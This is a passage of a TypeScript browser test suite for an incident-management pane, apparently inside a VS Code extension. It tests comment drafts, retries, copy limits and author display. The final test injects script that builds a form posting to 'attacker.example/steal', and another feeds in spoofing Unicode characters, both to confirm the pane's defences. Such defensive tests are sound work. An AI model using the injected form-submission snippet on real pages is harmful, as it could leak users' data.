    await p.deliver({ type: 'response', id: m.id, ok: true, message: 'Assigned to you (analyst@contoso.com)', warning });
    assert.strictEqual(await p.text('#status-area'), `Assigned to you (analyst@contoso.com). ${warning}`);
    assert.strictEqual(await p.page.getAttribute('#status-area', 'class'), 'notice warning');
  });

  it('the resolving comment is kept as a draft: across reload, from the extension, and per incident on a preview switch', async () => {
    const p = await open();
    const page = p.page;
    await p.clearPosted();
    await page.selectOption('#status', 'Resolved');
    await page.fill('#resolve-comment', 'Benign: red team exercise, ticket SEC-1142.');
    const m = await p.waitForPosted(x => x.type === 'drafts');
    assert.ok(m.type === 'drafts');
    assert.deepStrictEqual(m.drafts, { resolveComment: 'Benign: red team exercise, ticket SEC-1142.' });
    assert.strictEqual(m.incidentId, '3921');

    await p.reload();
    assert.ok(await page.locator('#resolve-form').isVisible(), 'the form is open again with the kept text in sight');
    assert.strictEqual(await page.inputValue('#status'), 'Resolved');
    assert.strictEqual(await page.inputValue('#resolve-comment'), 'Benign: red team exercise, ticket SEC-1142.');

    // A preview switch saves it under its own incident and starts the next one clean.
    await p.clearPosted();
    await p.deliver({ type: 'state', state: paneState({}, { id: '4077', name: 'Another incident' }) });
    const saved = await p.waitForPosted(x => x.type === 'drafts');
    assert.deepStrictEqual(saved, { type: 'drafts', drafts: { resolveComment: 'Benign: red team exercise, ticket SEC-1142.' }, incidentId: '3921' });
    assert.strictEqual(await page.inputValue('#resolve-comment'), '');
    assert.ok(await page.locator('#resolve-form').isHidden());
    assert.strictEqual(await page.inputValue('#status'), 'Active');

    // Back to the first: the extension's copy of the draft fills the form.
    await p.deliver({ type: 'state', state: paneState({ drafts: { resolveComment: 'Benign: red team exercise, ticket SEC-1142.' } }) });
    assert.ok(await page.locator('#resolve-form').isVisible());
    assert.strictEqual(await page.inputValue('#resolve-comment'), 'Benign: red team exercise, ticket SEC-1142.');
  });

  it('an earlier send that completes does not clear what was typed since (comment and resolving comment)', async () => {
    const p = await open();
    const page = p.page;
    await p.clearPosted();
    await page.fill('#comment', 'First note');
    await page.click('#add-comment');
    const first = await p.waitForRequest('addComment');
    await page.fill('#comment', 'Second note, typed while the first was sending');
    await p.waitForPosted(x => x.type === 'drafts' && x.drafts.comment === 'Second note, typed while the first was sending');
    await p.clearPosted();
    assert.ok(first.action.kind === 'addComment');
    await p.deliver({ type: 'state', state: withComment({ key: first.action.clientId, text: 'First note', state: 'pending' }) });
    await page.waitForSelector(`.entry.state-pending[data-key="${first.action.clientId}"]`);
    assert.strictEqual(await page.inputValue('#comment'), 'Second note, typed while the first was sending');
    await p.deliver({ type: 'state', state: withComment({ key: 'comment-9-2026-11-30T06:00:00Z', text: 'First note', state: 'confirmed' }) });
    await p.deliver({ type: 'response', id: first.id, ok: true, message: 'Comment added' });
    await page.waitForSelector('.entry[data-key="comment-9-2026-11-30T06:00:00Z"]');
    assert.strictEqual(await page.inputValue('#comment'), 'Second note, typed while the first was sending');
    await page.waitForTimeout(400);
    assert.ok(
      !(await p.posted()).some(x => x.type === 'drafts' && x.drafts.comment !== 'Second note, typed while the first was sending'),
      'no draft without the newer text',
    );
    assert.strictEqual(((await p.storedState()) as { drafts: { comment?: string } }).drafts.comment, 'Second note, typed while the first was sending');

    await page.selectOption('#status', 'Resolved');
    await page.fill('#resolve-comment', 'Closing as benign');
    await page.click('#resolve-submit');
    const resolve = await p.waitForRequest('setStatus');
    assert.deepStrictEqual(resolve.action, {
      kind: 'setStatus',
      status: 'Resolved',
      classification: 'TruePositive',
      determination: 'Malware',
      comment: 'Closing as benign',
    });
    await page.fill('#resolve-comment', 'Closing as benign, after all a true positive');
    await p.deliver({ type: 'response', id: resolve.id, ok: true, message: 'Resolved' });
    assert.strictEqual(await page.inputValue('#resolve-comment'), 'Closing as benign, after all a true positive');

    // When nothing changed meanwhile, a confirmed send clears its draft.
    await p.clearPosted();
    const again = await (async () => {
      await page.click('#resolve-submit');
      return p.waitForRequest('setStatus');
    })();
    await p.deliver({ type: 'response', id: again.id, ok: true, message: 'Resolved' });
    assert.strictEqual(await page.inputValue('#resolve-comment'), '');
    const cleared = await p.waitForPosted(x => x.type === 'drafts' && x.drafts.resolveComment === undefined);
    assert.ok(cleared.type === 'drafts' && cleared.drafts.comment === 'Second note, typed while the first was sending');
  });

  it('a comment a crash left unconfirmed says so, with Retry (the extension re-reads first) and Discard', async () => {
    const s = paneState();
    s.timeline.push({
      key: 'out-1',
      kind: 'comment',
      time: new Date().toISOString(),
      author: 'analyst@contoso.com',
      text: 'Contained the host.',
      state: 'unconfirmed',
      error: 'VS Code closed while this comment was being sent: it may or may not have been posted. Retry checks the incident first.',
    });
    const p = await open(s);
    const page = p.page;
    const entry = page.locator('.entry[data-key="out-1"]');
    assert.strictEqual(await entry.getAttribute('class'), 'entry kind-comment state-unconfirmed');
    assert.strictEqual(await entry.locator('.entry-state').textContent(), 'Not confirmed');
    assert.match((await entry.locator('.entry-error').textContent())!, /may or may not have been posted/);
    await p.clearPosted();
    await entry.getByRole('button', { name: 'Retry sending this comment' }).click();
    assert.deepStrictEqual((await p.waitForRequest('retryComment')).action, { kind: 'retryComment', clientId: 'out-1' });
    const sending = paneState();
    sending.timeline.push({ ...s.timeline[s.timeline.length - 1], state: 'pending', error: undefined });
    await p.deliver({ type: 'state', state: sending });
    await page.waitForSelector('.entry.state-pending[data-key="out-1"]');

    // Submitting the same text again retries it rather than posting it twice.
    await p.deliver({ type: 'state', state: s });
    await p.clearPosted();
    await page.fill('#comment', 'Contained the host.');
    await page.click('#add-comment');
    assert.deepStrictEqual((await p.waitForRequest('retryComment')).action, { kind: 'retryComment', clientId: 'out-1' });

    await p.deliver({ type: 'state', state: s });
    await p.clearPosted();
    await page.locator('.entry[data-key="out-1"]').getByRole('button', { name: 'Discard this comment' }).click();
    assert.deepStrictEqual((await p.waitForRequest('discardComment')).action, { kind: 'discardComment', clientId: 'out-1' });
  });

  it('Copy refuses more than 100,000 characters with a message', async () => {
    const s = paneState();
    s.timeline.push({
      key: 'big',
      kind: 'comment',
      time: new Date().toISOString(),
      author: 'analyst@contoso.com',
      text: 'y'.repeat(150_000),
      state: 'failed',
      error: 'Too long for the server.',
    });
    const p = await open(s);
    await p.clearPosted();
    await p.page.locator('.entry[data-key="big"]').getByRole('button', { name: 'Copy comment text' }).click();
    assert.strictEqual(await p.text('#status-area'), 'This text is too long to copy (150,000 characters; at most 100,000).');
    assert.deepStrictEqual(await p.requests(), []);
  });

  it('who wrote or changed what: server authors, app registrations, this editor, invisible characters shown', async () => {
    const t = Date.now();
    const at = (min: number) => new Date(t - min * 60_000).toISOString();
    const p = await open(
      paneState(
        {
          timeline: [
            {
              key: 'c-app',
              kind: 'comment',
              time: at(50),
              author: 'API-App:1b2c3d4e-0000-4000-8000-00000000abcd',
              text: 'Posted by automation.',
              state: 'confirmed',
            },
            { key: 'c-none', kind: 'comment', time: at(40), author: null, text: 'Nobody recorded.', state: 'confirmed' },
            {
              key: 'j-editor',
              kind: 'change',
              source: 'editor',
              time: at(30),
              author: 'analyst@contoso.com',
              text: 'Owner',
              field: 'owner',
              from: null,
              to: 'adm\u200Bin@contoso.com',
              state: 'confirmed',
            },
            {
              key: 'o-named',
              kind: 'observed',
              source: 'server',
              time: at(20),
              author: 'megan.bowen@contoso.com',
              text: 'Status',
              field: 'status',
              from: 'Active',
              to: 'In progress',
              state: 'confirmed',
            },
            {
              key: 'o-anon',
              kind: 'observed',
              source: 'server',
              time: at(10),
              author: null,
              text: 'Tags',
              field: 'tags',
              from: null,
              to: 'x',
              state: 'confirmed',
            },
          ],
        },
        { assignedTo: 'adm\u200Bin@con\u202Etoso.com', lastModifiedBy: 'megan.bowen@contoso.com' },
      ),
    );
    const head = (k: string) => p.text(`.entry[data-key="${k}"] .entry-head`);
    assert.match((await head('c-app'))!, /^API-App:1b2c3d4e-0000-4000-8000-00000000abcd \(posted through the app registration\) commented /);
    assert.match((await head('c-none'))!, /^Unknown commented /);
    assert.match((await head('j-editor'))!, /^analyst@contoso\.com changed from this editor /);
    assert.strictEqual(await p.text('.entry[data-key="j-editor"] .to'), 'adm⟦U+200B⟧in@contoso.com');
    assert.match((await head('o-named'))!, /^megan\.bowen@contoso\.com changed on the server /);
    assert.match((await head('o-anon'))!, /^Changed on the server \(it does not say by whom\) /);
    assert.strictEqual(await p.text('#owner'), 'adm⟦U+200B⟧in@con⟦U+202E⟧toso.com');
    assert.strictEqual(await p.text('#header-owner'), 'adm⟦U+200B⟧in@con⟦U+202E⟧toso.com');
    assert.strictEqual(await p.text('#incident-modified-by'), 'megan.bowen@contoso.com');
  });

  it('the page refuses to submit any form (and its CSP says base-uri and form-action none)', async () => {
    const p = await open();
    const page = p.page;
    const csp = (await page.evaluate('document.querySelector(\'meta[http-equiv="Content-Security-Policy"]\').content')) as string;
    assert.match(csp, /(^|; )base-uri 'none'(;|$)/);
    assert.match(csp, /(^|; )form-action 'none'(;|$)/);
    assert.strictEqual(await page.locator('form').count(), 0);
    const before = page.url();
    // Script that got in some other way adds a form and submits it: the pane cancels the submission.
    const prevented = await page.evaluate(`new Promise(resolve => {
      const f = document.createElement('form');
      f.action = 'https://attacker.example/steal';
      f.method = 'post';
      document.body.append(f);
      f.addEventListener('submit', e => resolve(e.defaultPrevented));
      f.requestSubmit();
    })`);
    assert.strictEqual(prevented, true);
    await page.waitForTimeout(200);
    assert.strictEqual(page.url(), before);
  });
});
